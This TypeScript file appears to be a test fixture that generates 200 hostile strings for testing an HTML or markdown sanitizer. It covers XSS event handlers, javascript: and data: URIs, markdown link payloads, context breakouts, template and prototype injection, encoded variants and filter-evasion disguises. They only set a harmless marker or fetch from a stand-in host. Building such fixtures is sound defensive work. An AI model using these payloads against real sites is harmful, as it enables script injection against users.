/** What each string would do if a browser took it for code: leave this mark on the page, or ask this host for something. */
export const struckMark = 'struckByHostileText';
const act = `globalThis.${struckMark}=1`;
const host = 'https://struck.example';

/** Elements that run something by themselves, or when they are met. */
const elements = [
  `<script>${act}</script>`,
  `<script src="${host}/a.js"></script>`,
  `<img src=x onerror="${act}">`,
  `<img src="${host}/a.png">`,
  `<img srcset="${host}/b.png 1x">`,
  `<svg onload="${act}"></svg>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><image href="${host}/c.png"/></svg>`,
  `<svg><use href="${host}/d.svg#x"/></svg>`,
  `<svg><animate onbegin="${act}" attributeName="x" dur="1s"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${act}"></iframe></foreignObject></svg>`,
  `<math><mtext><img src=x onerror="${act}"></mtext></math>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe srcdoc="<script>parent.${struckMark}=1</script>"></iframe>`,
  `<iframe src="${host}/frame"></iframe>`,
  `<object data="${host}/object"></object>`,
  `<embed src="${host}/embed">`,
  `<video src=x onerror="${act}" autoplay></video>`,
  `<video poster="${host}/poster.png"></video>`,
  `<audio src="${host}/a.mp3" autoplay></audio>`,
  `<source onerror="${act}" src=x>`,
  `<details open ontoggle="${act}">x</details>`,
  `<body onload="${act}">`,
  `<input autofocus onfocus="${act}">`,
  `<select autofocus onfocus="${act}"></select>`,
  `<textarea autofocus onfocus="${act}"></textarea>`,
  `<button popovertarget=p onclick="${act}">x</button>`,
  `<a href="javascript:${act}">a link</a>`,
  `<a href="data:text/html,<script>${act}</script>">a link</a>`,
  `<form action="${host}/form"><button>send</button></form>`,
  `<link rel=stylesheet href="${host}/a.css">`,
  `<link rel=preload as=image href="${host}/e.png">`,
  `<style>@import "${host}/b.css"; body{background:url(${host}/f.png)}</style>`,
  `<div style="background:url(${host}/g.png)">x</div>`,
  `<div style="position:fixed;inset:0;background:red">x</div>`,
  `<meta http-equiv=refresh content="0;url=${host}/meta">`,
  `<base href="${host}/">`,
  `<marquee onstart="${act}">x</marquee>`,
  `<table background="${host}/h.png"><tr><td>x</td></tr></table>`,
  `<template><img src=x onerror="${act}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>"></noscript>`,
  `<custom-element onclick="${act}">x</custom-element>`,
  `<xss style="animation-name:x" onanimationstart="${act}"></xss>`,
  `<p hidden="until-found" onbeforematch="${act}">x</p>`,
] as const;

/** Markdown that becomes elements, links or pictures. */
const markdown = [
  `[a link](javascript:${act})`,
  `[a link](JaVaScRiPt:${act})`,
  `[a link](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)`,
  `[a link](vbscript:${act})`,
  `![a picture](${host}/i.png)`,
  `![a picture][ref] [ref]: ${host}/j.png`,
  `[![x](${host}/k.png)](javascript:${act})`,
  `<javascript:${act}>`,
  `<${host}/autolink>`,
  `[x]: javascript:${act} "title"`,
  `\`\`\`html <script>${act}</script> \`\`\``,
  `| <img src=x onerror="${act}"> | ![x](${host}/l.png) |`,
  `> <iframe src="${host}/quote"></iframe>`,
  `- [ ] <input autofocus onfocus="${act}">`,
  `[^1]: <img src=x onerror="${act}">`,
  `[1] <img src=x onerror="${act}"> [2](javascript:${act})`,
] as const;

/** Text that breaks out of where it was put, or pretends to be something else. */
const breakouts = [
  `"><script>${act}</script>`,
  `'><img src=x onerror=${act}>`,
  `--><script>${act}</script><!--`,
  `]]><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</style><script>${act}</script>`,
  `\${${act}}`,
  `{{constructor.constructor('${act}')()}}`,
  `<%= ${act} %>`,
  `__proto__[${struckMark}]=1`,
  `&lt;img src=x onerror=${act}&gt;`,
  `&#60;script&#62;${act}&#60;/script&#62;`,
  `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `\u202Egnp.exe <img src=x onerror="${act}">`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<<script>${act}//<</script>`,
  `<img/src=x/onerror=${act}>`,
  `<ImG sRc=x oNeRrOr=${act}>`,
] as const;

/** Ways in which a filter that looks for the plain form is got around. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('<', '<\u00A0').replaceAll('<\u00A0/', '</') + text,
  (text) => `x"y'z ${text.toUpperCase().replaceAll(act.toUpperCase(), act)}`,
];

/** 200 different strings, the plain ones first. */
export const hostileStrings: readonly string[] = disguises
  .flatMap((disguise) => [...elements, ...markdown, ...breakouts].map(disguise))
  .slice(0, 200);
